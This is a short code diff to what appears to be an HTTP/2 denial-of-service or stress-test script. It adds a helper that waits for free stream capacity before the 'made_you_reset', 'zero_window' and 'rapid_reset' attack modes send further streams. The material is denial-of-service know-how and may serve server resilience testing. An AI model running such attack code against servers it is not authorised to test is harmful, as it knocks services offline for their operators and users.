@@ -130,9 +130,20 @@ def main():
                 return False
         return True
 
+    def room():
+        """Waits until the server's stream limit lets one more stream open
+        (the server's resets are read meanwhile); False if it never does."""
+        while conn.open_outbound_streams >= conn.remote_settings.max_concurrent_streams:
+            if out["goaway"] or not pump() or time.monotonic() > deadline:
+                return False
+            time.sleep(0.001)
+        return True
+
     stream_id = 1
     for i in range(a.count):
         if out["goaway"] or out["closed"] or time.monotonic() > deadline:
+            break
+        if a.attack in ("made_you_reset", "zero_window", "rapid_reset") and not room():
             break
         if a.attack == "made_you_reset":
             conn.send_headers(stream_id, headers + [("content-length", "5")], end_stream=True)
